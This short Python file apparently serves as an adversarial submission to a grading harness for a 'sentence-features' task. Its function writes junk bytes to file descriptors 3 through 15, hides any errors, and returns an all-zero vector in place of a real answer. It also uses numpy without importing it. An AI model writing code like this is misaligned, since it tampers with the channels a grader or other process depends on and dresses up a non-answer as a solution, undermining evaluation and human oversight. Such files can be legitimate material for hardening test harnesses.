"""Sends bytes that mean nothing.

question: sentence-features
gets: nothing
says: not a whole answer
"""

import os

def sentence_features(token_idxs, word_vecs):
    for fd in range(3, 16):
        try:
            os.write(fd, b"garbage " * 100)
        except OSError:
            pass
    return np.zeros(word_vecs.shape[1])
